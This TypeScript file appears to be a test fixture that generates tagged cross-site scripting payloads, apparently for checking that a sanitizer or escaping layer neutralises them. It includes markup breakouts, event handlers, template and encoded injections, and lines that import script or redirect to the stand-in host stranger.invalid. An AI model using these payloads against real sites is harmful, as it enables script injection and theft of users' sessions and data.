/** Texts that run a script where they are taken for markup, for script, or for an address. Each ends with a mark of its own. */

/** What the texts call: a dialog in several spellings, and a request to a host that does not exist. */
const calls = [
  'alert(1)',
  'confirm`1`',
  "top['al'+'ert'](1)",
  '(0,eval)("ale"+"rt(1)")',
  "import('//stranger.invalid/x.js')",
]

/** Markup, with `RUN` where the call goes. */
const markup = [
  '<script>RUN</script>',
  '<ScRiPt/x>RUN</sCrIpT >',
  '<scr<script>ipt>RUN</scr</script>ipt>',
  '</script><script>RUN</script>',
  '</style><script>RUN</script>',
  '</title></textarea><script>RUN</script>',
  '--><script>RUN</script>',
  ']]><script>RUN</script>',
  '"><script>RUN</script>',
  "'><img src=x onerror=RUN>",
  '<img src=x onerror="RUN">',
  '<img/src=x/onerror=RUN//',
  '<img src=x:x onerror=&#82;&#85;&#78; onerror="RUN">',
  '<svg onload=RUN>',
  '<svg><script>RUN</script></svg>',
  '<svg><animate onbegin=RUN attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:RUN"><text y=9>x</text></a></svg>',
  '<svg><set attributeName=onload to=RUN /></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=RUN&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=RUN>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=RUN>',
  '<body onload=RUN>',
  '<iframe src="javascript:RUN"></iframe>',
  '<iframe srcdoc="&lt;script&gt;RUN&lt;/script&gt;"></iframe>',
  '<object data="javascript:RUN"></object><embed src="javascript:RUN">',
  '<input autofocus onfocus=RUN>',
  '<video><source onerror=RUN></video><audio src=x onerror=RUN></audio>',
  '<details open ontoggle=RUN>x</details>',
  '<p style="animation:spin 1s" onanimationstart=RUN onpointerenter=RUN tabindex=0>x</p>',
  '<a href="javascript:RUN">x</a>',
  '<a href="java&#9;scr&#10;ipt:RUN">x</a>',
  '<a href="&#1;&#106;avascript&colon;RUN">x</a>',
  '<a href="data:text/html,<script>RUN</script>">x</a>',
  '<template><script>RUN</script></template>',
  '<!--[if gte IE 4]><script>RUN</script><![endif]-->',
  '<!--><img src=x onerror=RUN>-->',
] as const

/** The same without markup: in a script, in a template, in an encoding that a later step may undo. */
const others = [
  "';RUN;//",
  '";RUN;//',
  '`;RUN;//',
  "\\';RUN;//",
  '\u2028RUN\u2028',
  '\u0024{RUN}',
  "{{constructor.constructor('RUN')()}}",
  'javascript:RUN',
  '\\u003cscript\\u003eRUN\\u003c/script\\u003e',
  '\\x3cimg src=x onerror=RUN\\x3e',
  '&lt;script&gt;RUN&lt;/script&gt;',
  '&amp;lt;img src=x onerror=RUN&amp;gt;',
  '%3Cscript%3ERUN%3C/script%3E',
  '+ADw-script+AD4-RUN+ADw-/script+AD4-',
  '＜script＞RUN＜/script＞',
]

/** Texts that need no call: what they load or change is harm enough. */
const loading = [
  '<script src=//stranger.invalid/x.js></script>',
  '<link rel=stylesheet href=//stranger.invalid/x.css>',
  '<style>@import "//stranger.invalid/x.css";*{display:none}</style>',
  '<img src=//stranger.invalid/x.png srcset="//stranger.invalid/y.png 1x">',
  '<meta http-equiv=refresh content="0;url=//stranger.invalid/">',
  '<base href=//stranger.invalid/>',
  '<form action=//stranger.invalid/><button>x</button></form>',
  '<a href="//stranger.invalid/" ping="//stranger.invalid/ping">x</a>',
  '<p style="background:url(//stranger.invalid/x.png)">x</p>',
  '<iframe src=//stranger.invalid/></iframe>',
]

/** The mark of a text: a word that is only there if the text got to where it was sent. */
export const markOf = (at: number) => `mark${at}end`

/** More than two hundred hostile texts, the shorter ones first, each at most 160 characters long. */
export const hostileTexts: readonly string[] = [
  ...[...markup, ...others].flatMap((text) => calls.map((call) => text.replaceAll('RUN', call))),
  ...loading,
]
  .filter((text) => text.length < 145)
  .sort((one, other) => one.length - other.length)
  .map((text, at) => `${markOf(at)} ${text}`)

/** The texts that fit into a field of this length. */
export const hostileWithin = (length: number) => hostileTexts.filter((text) => text.length <= length)
